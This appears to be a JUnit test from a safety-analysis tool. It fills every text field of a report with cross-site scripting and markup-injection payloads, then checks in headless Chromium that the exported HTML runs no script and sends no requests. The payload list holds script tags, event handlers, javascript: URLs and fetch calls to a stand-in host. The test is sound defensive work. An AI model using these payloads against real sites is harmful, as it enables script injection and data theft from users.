/*
 * Copyright (c) 2026 Premortem contributors. EPL-2.0.
 */
package org.premortem.report.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.eclipse.emf.common.util.EList;
import org.eclipse.emf.common.util.TreeIterator;
import org.eclipse.emf.ecore.EAttribute;
import org.eclipse.emf.ecore.EObject;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.premortem.core.synthetic.SyntheticAnalysis;
import org.premortem.model.stpa.Analysis;

/**
 * The HTML report in a real browser: an analysis whose every text (names, texts, descriptions, rationales, contexts,
 * variable values, display ids) holds a script, markup, a break-out or a URL is exported and opened in headless
 * Chromium. No script runs (none sets the marker its code would compute) and the page requests nothing: every
 * request would reach the recording proxy. A control page with one unescaped payload shows the harness sees both.
 */
class BrowserInjectionTest {

    /** What an executed payload writes; it appears nowhere in the payloads' text, only in their code's result. */
    private static final String MARKER = "pwned-42";
    private static final String HOST = "http://premortem-payload.invalid/";
    private static final String RUN = "document.documentElement.setAttribute('data-'+'hit','pw'+'ned-'+(6*7));"
            + "fetch('" + HOST + "fetch')";
    private static final List<String> PAYLOADS = List.of(
            "<script>" + RUN + "</script>",
            "\"><img src=\"" + HOST + "img\" onerror=\"" + RUN + "\">",
            "'><svg onload=\"" + RUN + "\"><circle r=\"1\"/></svg>",
            "javascript:" + RUN,
            "<iframe src=\"" + HOST + "iframe\"></iframe>",
            "<link rel=\"stylesheet\" href=\"" + HOST + "css\">",
            "</style><style>body{background:url(" + HOST + "cssurl)}</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=" + HOST + "refresh\">",
            "<base href=\"" + HOST + "base/\"><img src=\"relative.png\">",
            "]]><script>" + RUN + "</script><![CDATA[",
            "<object data=\"" + HOST + "object\"></object>",
            "<img srcset=\"" + HOST + "srcset 1x\">",
            "<script src=\"" + HOST + "external.js\"></script>",
            "x\" style=\"background:url(" + HOST + "style)\" onmouseover=\"" + RUN,
            "<!--", "-->", "<template><script>" + RUN + "</script></template>",
            "\u2028<details open ontoggle=\"" + RUN + "\">");

    @TempDir
    static Path folder;

    private static Analysis analysis;

    @BeforeAll
    static void build() {
        analysis = SyntheticAnalysis.generate(12, 4);
        fillEveryText(analysis);
    }

    @Test
    void theHarnessSeesScriptsAndRequestsOfAnUnsafePage() throws Exception {
        Path page = Files.writeString(folder.resolve("control.html"), "<!DOCTYPE html><html><body><p>control</p>"
                + PAYLOADS.get(0) + PAYLOADS.get(4) + "</body></html>");
        try (RequestRecorder proxy = new RequestRecorder()) {
            String dom = HeadlessChromium.dumpDom(page, proxy.address(), folder.resolve("profile-control"));
            assertTrue(dom.contains(MARKER), "the control page's script ran");
            assertTrue(pageRequests(proxy).stream().anyMatch(r -> r.contains("premortem-payload.invalid")),
                    "the control page's requests reached the proxy: " + proxy.requests());
        }
    }

    @Test
    void theReportRunsNoScriptAndRequestsNothing() throws Exception {
        Path report = Reports.export("html", analysis, folder).get(0);
        try (RequestRecorder proxy = new RequestRecorder()) {
            String dom = HeadlessChromium.dumpDom(report, proxy.address(), folder.resolve("profile-report"));
            assertTrue(dom.contains("premortem-payload.invalid"), "the payloads are in the page, as text");
            assertFalse(dom.contains(MARKER), "a payload's script ran");
            assertEquals(List.of(), pageRequests(proxy), "the page requested something");
        }
    }

    /** The requests of the page: everything but Chromium's own background services. */
    private static List<String> pageRequests(RequestRecorder proxy) {
        return proxy.requests().stream()
                .filter(request -> HeadlessChromium.OWN_SERVICES.stream().noneMatch(request::contains)).toList();
    }

    /** Puts a payload into every text attribute of every element (permanent ids stay valid: files refuse others). */
    private static void fillEveryText(Analysis analysis) {
        int index = 0;
        index = fill(analysis, index);
        for (TreeIterator<EObject> it = analysis.eAllContents(); it.hasNext();) {
            index = fill(it.next(), index);
        }
    }

    @SuppressWarnings("unchecked")
    private static int fill(EObject object, int index) {
        int next = index;
        for (EAttribute attribute : object.eClass().getEAllAttributes()) {
            if (!attribute.isChangeable() || attribute.isDerived() || "id".equals(attribute.getName())
                    || attribute.getEAttributeType().getInstanceClass() != String.class) {
                continue;
            }
            if (attribute.isMany()) {
                EList<String> values = (EList<String>) object.eGet(attribute);
                values.clear();
                values.add(PAYLOADS.get(next++ % PAYLOADS.size()));
                values.add(PAYLOADS.get(next++ % PAYLOADS.size()));
            } else {
                object.eSet(attribute, PAYLOADS.get(next++ % PAYLOADS.size()));
            }
        }
        return next;
    }
}
